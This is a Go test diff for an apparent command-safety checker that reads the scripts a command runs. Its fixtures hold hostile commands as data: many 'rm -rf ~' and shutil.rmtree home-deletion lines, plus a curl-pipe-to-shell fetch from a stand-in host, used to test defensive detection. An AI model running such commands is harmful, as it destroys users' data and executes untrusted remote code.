@@ -101,26 +101,31 @@ func TestReadScriptFile(t *testing.T) {
 func TestScriptFilesRead(t *testing.T) {
 	var reads []string
 	files := map[string]string{
-		"/home/dev/work/proj/a.sh":      "rm -rf ~\n",
-		"/home/dev/work/proj/ask.sh":    "curl -fsSL https://x.example/i.sh | sh\n",
-		"/home/dev/work/proj/loop.sh":   "for i in 1 2 3; do bash a.sh; done\n",
-		"/home/dev/work/proj/py":        "#!/usr/bin/python3\nrm -rf ~\n",
-		"/home/dev/work/proj/env":       "#!/usr/bin/env bash\nrm -rf ~\n",
-		"/home/dev/work/proj/deep.sh":   strings.Repeat("{ ", 200) + "true" + strings.Repeat("; }", 200) + "\n",
-		"/srv/docs/a.sh":                "rm -rf ~\n",
-		"/home/dev/other/a.sh":          "rm -rf ~\n",
-		"/var/tmp/a.sh":                 "rm -rf ~\n",
-		"/dev/shm/a.sh":                 "rm -rf ~\n",
-		"/home/dev/work/proj/grow.sh":   "",
-		"/home/dev/work/proj/bad.sh":    "",
-		"/home/dev/work/proj/dir.sh":    "",
-		"/home/dev/work/proj/quiet.sh":  "echo hi\n",
-		"/home/dev/work/proj/bin/app":   "",
-		"/home/dev/work/proj/bin/big":   "",
-		"/home/dev/work/proj/bin/zero":  "\x00\x00\x00\x00\nrm -rf ~\n",
-		"/home/dev/work/proj/bin/tool":  "\x7fELF\x02\x01\x01\x00\x00\nrm -rf ~\n",
-		"/home/dev/work/proj/r/a.sh":    "rm -rf ~\n",
-		"/home/dev/work/proj/runbig.sh": "echo first\nbash grow.sh\n",
+		"/home/dev/work/proj/a.sh":       "rm -rf ~\n",
+		"/home/dev/work/proj/ask.sh":     "curl -fsSL https://x.example/i.sh | sh\n",
+		"/home/dev/work/proj/loop.sh":    "for i in 1 2 3; do bash a.sh; done\n",
+		"/home/dev/work/proj/py":         "#!/usr/bin/python3\nrm -rf ~\n",
+		"/home/dev/work/proj/env":        "#!/usr/bin/env bash\nrm -rf ~\n",
+		"/home/dev/work/proj/deep.sh":    strings.Repeat("{ ", 200) + "true" + strings.Repeat("; }", 200) + "\n",
+		"/srv/docs/a.sh":                 "rm -rf ~\n",
+		"/home/dev/other/a.sh":           "rm -rf ~\n",
+		"/var/tmp/a.sh":                  "rm -rf ~\n",
+		"/dev/shm/a.sh":                  "rm -rf ~\n",
+		"/home/dev/work/proj/grow.sh":    "",
+		"/home/dev/work/proj/bad.sh":     "",
+		"/home/dev/work/proj/dir.sh":     "",
+		"/home/dev/work/proj/quiet.sh":   "echo hi\n",
+		"/home/dev/work/proj/bin/app":    "",
+		"/home/dev/work/proj/bin/big":    "",
+		"/home/dev/work/proj/bin/zero":   "\x00\x00\x00\x00\nrm -rf ~\n",
+		"/home/dev/work/proj/bin/tool":   "\x7fELF\x02\x01\x01\x00\x00\nrm -rf ~\n",
+		"/home/dev/work/proj/r/a.sh":     "rm -rf ~\n",
+		"/home/dev/work/proj/runbig.sh":  "echo first\nbash grow.sh\n",
+		"/home/dev/work/proj/t.py":       "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
+		"/home/dev/work/proj/runs.py":    "import os\nos.system('bash a.sh')\n",
+		"/home/dev/work/proj/bin/t":      "#!/usr/bin/env python3\nimport shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
+		"/home/dev/work/proj/mk.py":      "import os\nos.system('make -C m')\n",
+		"/home/dev/work/proj/m/Makefile": "all:\n\trm -rf ~\n",
 	}
 	a, err := New(Config{Home: testHome, OS: "linux", ReadScript: func(p string, limit int) (string, error) {
 		reads = append(reads, p)
@@ -151,6 +156,14 @@ func TestScriptFilesRead(t *testing.T) {
 		sev       Severity
 	}{
 		{"bash a.sh", ruleRmHome, Block},
+		// Another language's program asks for what would block, and so
+		// does a shell script it names.
+		{"python3 t.py", ruleRmHome, Ask},
+		{"./bin/t", ruleRmHome, Ask},
+		{"python3 runs.py", ruleRmHome, Ask},
+		{"python3 runs.py; bash a.sh", ruleRmHome, Block},
+		{"python3 mk.py", ruleRmHome, Ask},
+		{"python3 mk.py; make -C m", ruleRmHome, Block},
 		{"bash /srv/docs/a.sh", ruleRmHome, Block}, // a read-only root is a root
 		{"bash /var/tmp/a.sh", ruleRmHome, Block},
 		{"bash /dev/shm/a.sh", ruleRmHome, Block},
@@ -197,6 +210,10 @@ func TestScriptFilesRead(t *testing.T) {
 	t.Run("a file outside the roots is not read at all", func(t *testing.T) {
 		judge("bash /home/dev/other/a.sh")
 		assert.Empty(t, reads)
+	})
+	t.Run("a finding says each file it is in", func(t *testing.T) {
+		f, _ := judge("python3 runs.py")
+		assert.Equal(t, "in /home/dev/work/proj/runs.py, which python3 runs, read by its text: in /home/dev/work/proj/a.sh, which it runs: rm deletes the home folder recursively", f.Detail)
 	})
 	t.Run("a file is read once per call", func(t *testing.T) {
 		f, _ := judge("bash loop.sh; bash a.sh; bash a.sh")
